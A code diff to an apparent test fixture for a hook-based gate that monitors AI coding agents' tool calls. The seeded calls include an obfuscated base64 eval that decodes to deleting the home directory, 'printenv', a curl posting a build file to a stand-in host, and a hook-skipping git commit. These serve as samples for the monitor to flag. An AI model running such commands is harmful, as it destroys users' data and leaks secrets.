@@ -1,5 +1,5 @@
 import { mkdirSync, writeFileSync } from 'node:fs'
-import { join } from 'node:path'
+import { dirname, join } from 'node:path'
 import { createGate, type HookEvent } from '../../src/library/index.ts'
 import { limits } from '../../src/model/limits.ts'
 import { newRecordId } from '../../src/record/record-id.ts'
@@ -35,6 +35,7 @@ const calls: readonly (readonly [hoursAgo: number, agent: HookEvent['agent'], pr
   [10.2, 'claude-code', 'web', 'npm run lint'],
   [10.1, 'claude-code', 'web', 'write .github/workflows/release.yml'],
   [10.0, 'claude-code', 'web', 'write src/pages/checkout.tsx'],
+  [9.95, 'claude-code', 'web', 'printenv'],
   [9.9, 'claude-code', 'web', 'npm run build'],
   [9.5, 'cline', 'notes', 'ls -la'],
   [9.4, 'cline', 'notes', 'find . -name "*.md" -newer index.md'],
@@ -65,6 +66,7 @@ const calls: readonly (readonly [hoursAgo: number, agent: HookEvent['agent'], pr
   [0.9, 'claude-code', 'web', 'git stash && git pull --rebase'],
   [0.5, 'claude-code', 'web', 'npm test'],
   [0.4, 'claude-code', 'web', 'eval "$(echo cm0gLXJmIH4K | base64 -d)"'],
+  [0.35, 'claude-code', 'web', 'curl -s -d @dist/report.json https://reports.example/api'],
   [0.3, 'claude-code', 'web', 'git push origin main'],
   [0.2, 'claude-code', 'web', 'npx playwright test --project chromium'],
   [0.1, 'claude-code', 'web', 'write README.md'],
@@ -73,7 +75,7 @@ const calls: readonly (readonly [hoursAgo: number, agent: HookEvent['agent'], pr
 
 const settings = {
   preset: 'recommended',
-  packs: [{ pack: 'supply-chain', mode: 'observe' }],
+  packs: [{ pack: 'supply-chain', mode: 'observe' }, { pack: 'data-flow' }],
   // It is not there, so each write of a migration has a rule that failed.
   hooks: {
     PreToolUse: [
@@ -90,6 +92,13 @@ const settings = {
     { rule: 'git-safety/skipped-hooks', command: 'git commit --no-verify -m wip', reason: 'commits that are squashed' },
   ],
   approvals: { insteadOf: ['codex'] },
+  limits: {
+    calls: [
+      { command: 'npm', most: 8 },
+      { host: '*', most: 20 },
+      { tool: 'agent', atOnce: 4 },
+    ],
+  },
 }
 
 /**
@@ -108,6 +117,9 @@ export async function recordDays(home: string, file: string, days: number): Prom
     placement: 'caller',
     home,
     env: { HOME: home },
+    // What rules have counted is beside the record.
+    state: dirname(file),
+    record: false,
     onRecord(record) {
       const id = newRecordId(atMs)
       rows.push({ id, record: JSON.stringify({ ...record, id, at: new Date(atMs).toISOString(), via: 'client' }) })
